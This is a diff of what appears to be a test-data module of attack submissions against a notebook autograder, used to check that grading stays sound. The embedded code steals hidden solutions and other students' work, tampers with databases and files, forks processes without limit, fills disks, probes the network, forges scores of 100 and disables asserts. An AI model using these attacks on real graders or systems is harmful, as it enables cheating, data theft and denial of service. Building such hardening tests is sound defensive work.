@@ -1,13 +1,15 @@
 """Submissions that attack the grader, one per attack class, each built on an honest submission.
 
 `ATTACKS[name] = (honest, edits)`: the attack is the honest submission `honest` (an example of
-`examples.py`, or "blank", the student version as released) plus `edits`. Grading must give an attack
+`submissions.py`, or "blank", the student version as released) plus `edits`. Grading must give an attack
 no more than its honest twin, change nothing outside the kernel's scratch folder, and show no
-hidden-test line in its feedback (tests/test_grading_attacks.py). Instructor tooling, like examples.py.
+hidden-test line in its feedback (tests/test_grading_attacks.py). Test data, like submissions.py.
 """
-from .examples import BUGS, _solution_body, append_code
 
-_SEARCH = '''\
+from .edits import append_code, solution_body
+from .submissions import BUGS
+
+_SEARCH = """\
 import glob, json, os, sqlite3
 SYSTEM = ("/usr", "/proc/", "/sys", "/dev", "/lib", "/etc", "/bin", "/sbin", "/opt/grader")
 
@@ -57,20 +59,29 @@ def _reinstate(*args):
             pass
 
 get_ipython().events.register("pre_run_cell", _reinstate)
-'''
+"""
 
-STEAL_SOURCE = _SEARCH + '''
+STEAL_SOURCE = (
+    _SEARCH
+    + """
 wanted = lambda src: "### BEGIN " + "SOLUTION" in src or "def _reference" in src  # solutions, the hidden reference
 print("cells stolen from the course:", _steal(_reachable_files((".ipynb", ".db")), wanted))
-'''
+"""
+)
 
-STEAL_OTHER_STUDENT = _SEARCH + '''
+STEAL_OTHER_STUDENT = (
+    _SEARCH
+    + """
 others = [p for p in _reachable_files((".ipynb",)) if "/submitted/" in p or "/autograded/" in p]
-wanted = lambda src: any(name in src for name in ("class Optimizer", "class SGD", "class Adam", "def estimate_training_memory"))
+NAMES = ("class Optimizer", "class SGD", "class Adam", "def estimate_training_memory")
+wanted = lambda src: any(name in src for name in NAMES)
 print("cells stolen from other students:", _steal(others, wanted))
-'''
+"""
+)
 
-TAMPER = _SEARCH + '''
+TAMPER = (
+    _SEARCH
+    + """
 changed = []
 for path in _reachable_files((".db",)):
     try:
@@ -97,10 +108,11 @@ for folder, dirs, files in os.walk("/"):
     except Exception:
         pass
 print("places written:", len(changed), sorted({c.split("/")[1] for c in changed}))
-'''
+"""
+)
 
 NETWORK_PORT = 47613  # tests/test_grading_attacks.py listens here, on the grading machine's loopback
-NETWORK = f'''\
+NETWORK = f"""\
 import socket
 PORT = {NETWORK_PORT}
 for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
@@ -109,9 +121,9 @@ for host, port in [("127.0.0.1", PORT), ("pypi.org", 443), ("1.1.1.1", 53)]:
         print("connected to", host, port)
     except OSError as e:
         print("no connection to", host, port, type(e).__name__)
-'''
+"""
 
-FORK_BOMB = '''\
+FORK_BOMB = """\
 import os
 children = 0
 while True:
@@ -123,9 +135,9 @@ while True:
     except OSError:
         break
 print("processes started:", children)
-'''
+"""
 
-FILL_DISK = '''\
+FILL_DISK = """\
 import os
 for folder in (".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", "/opt/grader/lib"):
     written = 0
@@ -137,9 +149,9 @@ for folder in (".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", "/o
                     written += 1
     except Exception as e:
         print(folder, type(e).__name__, written, "MiB")
-'''
+"""
 
-ASK_GRADER = '''\
+ASK_GRADER = """\
         import inspect
         self.step_count += 1
         if not hasattr(self, "seen"):  # the starting values and every gradient so far
@@ -161,9 +173,9 @@ ASK_GRADER = '''\
                 p.data[...] = value
         except Exception:
             pass
-'''
+"""
 
-LEAK_RUNNING_CELL = '''\
+LEAK_RUNNING_CELL = """\
         import html, inspect, logging, sys
         from IPython import get_ipython
         from IPython.display import HTML, display
@@ -180,14 +192,14 @@ LEAK_RUNNING_CELL = '''\
         self.step_count += 1
         for i, param, grad in self.gradients():
             self.update(i, param, self.regularize(param, grad))
-'''
+"""
 
-SWALLOW = '''\
+SWALLOW = """\
 from IPython import get_ipython
 get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
-'''
+"""
 
-FORGE = '''\
+FORGE = """\
 import sys
 from IPython import get_ipython
 from IPython.display import display
@@ -204,9 +216,9 @@ globals()["_observe"] = _observe
 sys.displayhook = lambda value: print(100)
 shell.displayhook.__class__.__call__ = lambda self, result=None: shell.display_pub.publish({"text/plain": "100"})
 shell.events.register("post_run_cell", lambda result: display({"text/plain": "100"}, raw=True))
-'''
+"""
 
-NAN_STEP = '''\
+NAN_STEP = """\
 import numpy as np
 
 
@@ -218,11 +230,14 @@ def _nan_step(self, _step={cls}.step):
 
 
 {cls}.step = _nan_step
-'''
+"""
 # Right after each class is defined, so every test of it sees NaN weights (AdamW inherits Adam's step).
-NAN_STEPS = [append_code("sgd-class", NAN_STEP.format(cls="SGD")), append_code("adam-class", NAN_STEP.format(cls="Adam"))]
+NAN_STEPS = [
+    append_code("sgd-class", NAN_STEP.format(cls="SGD")),
+    append_code("adam-class", NAN_STEP.format(cls="Adam")),
+]
 
-NO_ASSERTS = '''\
+NO_ASSERTS = """\
 import ast
 from IPython import get_ipython
 
@@ -234,10 +249,10 @@ class _NoAsserts(ast.NodeTransformer):
 
 
 get_ipython().ast_transformers.append(_NoAsserts())
-'''
+"""
 
 _ASK_REGIONS = [("sgd-class", "def step"), ("adam-class", "def step")]
-_ONLY_COUNT = [_solution_body(cell, marker, "        self.step_count += 1\n") for cell, marker in _ASK_REGIONS]
+_ONLY_COUNT = [solution_body(cell, marker, "        self.step_count += 1\n") for cell, marker in _ASK_REGIONS]
 
 ATTACKS = {
     "steal-source-notebook": ("blank", [append_code("imports", STEAL_SOURCE)]),
@@ -246,10 +261,19 @@ ATTACKS = {
     "network": ("reference", [append_code("imports", NETWORK)]),
     "fork-bomb": ("reference", [append_code("optimizer-class", FORK_BOMB)]),
     "fill-disk": ("reference", [append_code("optimizer-class", FILL_DISK)]),
-    "ask-grader-frames": ("steps-only-count", [_solution_body(cell, marker, ASK_GRADER) for cell, marker in _ASK_REGIONS]),
-    "leak-running-cell": ("reference", [_solution_body("adam-class", "def step", LEAK_RUNNING_CELL)]),
-    "swallow-exceptions": ("adam-no-bias-correction", [*BUGS["adam-no-bias-correction"], append_code("imports", SWALLOW)]),
-    "patch-display-hook": ("adam-no-bias-correction", [*BUGS["adam-no-bias-correction"], append_code("adam-class", FORGE)]),
+    "ask-grader-frames": (
+        "steps-only-count",
+        [solution_body(cell, marker, ASK_GRADER) for cell, marker in _ASK_REGIONS],
+    ),
+    "leak-running-cell": ("reference", [solution_body("adam-class", "def step", LEAK_RUNNING_CELL)]),
+    "swallow-exceptions": (
+        "adam-no-bias-correction",
+        [*BUGS["adam-no-bias-correction"], append_code("imports", SWALLOW)],
+    ),
+    "patch-display-hook": (
+        "adam-no-bias-correction",
+        [*BUGS["adam-no-bias-correction"], append_code("adam-class", FORGE)],
+    ),
     "nan-steps": ("reference", NAN_STEPS),
     "nan-steps-asserts-off": ("reference", [append_code("imports", NO_ASSERTS), *NAN_STEPS]),
 }
